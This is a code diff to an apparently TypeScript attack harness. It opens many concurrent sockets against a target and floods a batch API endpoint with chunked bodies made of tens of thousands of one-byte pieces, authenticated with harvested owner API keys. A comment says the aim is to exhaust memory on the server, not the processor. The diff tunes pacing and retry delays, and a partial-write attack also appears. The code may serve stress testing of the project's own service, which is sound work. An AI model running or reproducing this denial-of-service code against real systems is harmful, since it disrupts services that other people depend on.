@@ -19,9 +19,11 @@ async function crowd(
   target: Target,
   until: AbortSignal,
   say: (socket: Socket, index: number) => void,
+  { againMs = 20, stepMs = 0 } = {},
 ): Promise<string> {
   let opened = 0;
   const one = async (index: number) => {
+    await delay(index * stepMs);
     while (!until.aborted) {
       const socket = connect({
         port: Number(new URL(target.url).port),
@@ -37,7 +39,7 @@ async function crowd(
       until.addEventListener('abort', over, { once: true });
       await closed;
       until.removeEventListener('abort', over);
-      await delay(20);
+      await delay(againMs);
     }
   };
   await Promise.all(Array.from({ length: CONNECTIONS }, (_, index) => one(index)));
@@ -94,15 +96,16 @@ const withNeither: Attack = (target, until) =>
     socket.write(PIECE.subarray(0, PIECE.length - 1));
   });
 
-/** Each byte a piece of its own: to whoever keeps pieces, a hundred times as heavy as it is. */
+/** Each byte a piece of its own: to whoever keeps pieces, a hundred times as heavy as it is. Ten a second: it is not about the processor. */
 const inPieces: Attack = async (target, until) => {
   const all = await owners(target, OWNERS);
   const pieces = Buffer.from('1\r\nx\r\n'.repeat(40_000));
-  return crowd(target, until, (socket, index) => {
+  const send = (socket: Socket, index: number) => {
     const headers = { 'x-api-key': all[index % OWNERS]?.pipeline.apiKey ?? '', 'transfer-encoding': 'chunked' };
     socket.write(head('POST /api/public/items/batch', { ...JSON_TYPE, ...headers }));
     for (let sent = 0; sent < 50; sent += 1) socket.write(pieces);
-  });
+  };
+  return crowd(target, until, send, { againMs: 15_000, stepMs: 100 });
 };
 
 const ATTACKS: Readonly<Record<string, Attack>> = {
